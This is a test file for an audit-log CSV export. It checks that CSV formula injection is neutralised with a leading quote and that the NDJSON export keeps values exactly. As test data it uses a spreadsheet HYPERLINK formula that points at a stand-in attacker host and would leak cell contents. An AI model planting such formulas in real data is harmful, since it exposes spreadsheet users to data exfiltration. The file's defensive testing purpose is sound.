// The audit log's CSV export against CSV (formula) injection, per OWASP: a cell a spreadsheet would
// run as a formula gets a leading ', while the NDJSON export keeps the value exactly.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { databases } from '../helpers/databases.ts'
import { call, signUp } from '../helpers/http.ts'
import { createOrganization, type Person } from '../helpers/organizations.ts'
import { startTestPortico, type TestPortico } from '../helpers/test-portico.ts'

describe.each(databases)('the audit CSV export on %s', (databaseName) => {
  let portico: TestPortico
  beforeAll(async () => {
    portico = await startTestPortico(databaseName, { env: { RATE_LIMIT: 'off' } })
  })
  afterAll(async () => {
    await portico?.close()
  })
  const app = () => portico.app

  // guards: CSV injection (OWASP) — a spreadsheet would run a name beginning with = as a formula
  it('exports a cell that begins with = + - or @ with a leading quote in CSV, and exactly in NDJSON', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    const owner = (await signUp(app(), { name })) as Person
    const org = await createOrganization(app(), owner, '@Formula Co')
    const exported = (format: string) =>
      call(app(), 'GET', `/v1/organizations/${org.id}/audit-events/export?format=${format}`, {
        token: owner.token,
      })
    const rows = (await exported('csv')).text.split('\r\n')
    expect(rows).toHaveLength(1 + 2 + 1)
    // organization.created, then member.added: actorName is the 7th field, data the last.
    for (const row of rows.slice(1, 3)) {
      expect(row).toContain(`,user,${owner.user.id},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",`)
    }
    // The data JSON begins with {, so it is left as it is, @ inside it included.
    expect(rows[1]).toMatch(/,"\{[^']*""name"":""@Formula Co""[^']*\}"$/)
    const events = (await exported('ndjson')).text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(events.map((event) => event.actor.name)).toEqual([name, name])
    expect(events[0].data.name).toBe('@Formula Co')
  })
})
